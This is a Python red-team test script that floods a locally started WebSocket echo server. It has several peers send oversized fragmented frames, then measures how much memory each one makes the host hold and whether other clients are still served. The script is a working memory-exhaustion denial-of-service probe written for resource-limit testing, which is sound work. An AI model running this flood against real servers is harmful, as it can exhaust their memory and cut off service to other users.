"""T1b: worst case per peer at default limits: a 63 MiB first fragment, then a continuation that declares
63 MiB (so the message would be 126 MiB > max_message_bytes 64 MiB, knowable from the header) of which
62 MiB are sent. K peers hold that. Host RSS per peer."""
import sys, time
sys.path.insert(0, "/work/redteam")
from rt import *
K = int(sys.argv[1]) if len(sys.argv) > 1 else 8
p, port = start_echo()
out = drain_output(p)
try:
    time.sleep(0.3); b = status(p.pid); print("baseline", b)
    mib = b"\x00" * (1 << 20); held = []
    for i in range(K):
        s, _, _ = ws_connect(port)
        s.sendall(frame(2, b"", fin=False))
        for _ in range(63): s.sendall(frame(0, mib, fin=False))
        s.sendall(frame(0, length=63 << 20, fin=False))
        for _ in range(62): s.sendall(mib)
        held.append(s)
    time.sleep(1); a = status(p.pid)
    print(f"{K} peers: rss {a['rss_mib']} MiB (+{a['rss_mib']-b['rss_mib']} MiB, {(a['rss_mib']-b['rss_mib'])/K:.0f} MiB per peer), {a}")
    c, _, _ = ws_connect(port); c.sendall(frame(2, b"hi")); print("other client echo:", read_frame(c)[2])
    for s in held: s.close()
    time.sleep(1); print("after close", status(p.pid))
finally:
    kill(p)
